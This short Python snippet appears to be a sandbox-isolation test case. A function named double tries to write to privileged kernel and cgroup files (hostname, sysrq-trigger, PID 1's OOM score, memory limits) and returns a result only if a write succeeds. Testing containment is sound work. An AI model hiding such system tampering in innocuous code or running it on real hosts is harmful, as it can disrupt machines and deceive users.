# docker: Failed
# wasm: Failed
def double(x):
    written = 0
    for name in ('/proc/sys/kernel/hostname', '/proc/sys/vm/drop_caches', '/proc/sysrq-trigger', '/proc/1/oom_score_adj', '/sys/fs/cgroup/memory/memory.limit_in_bytes', '/sys/fs/cgroup/memory.max'):
        try:
            with open(name, 'w') as file:
                file.write('1')
            written += 1
        except OSError:
            pass
    return 2 * x if written else None
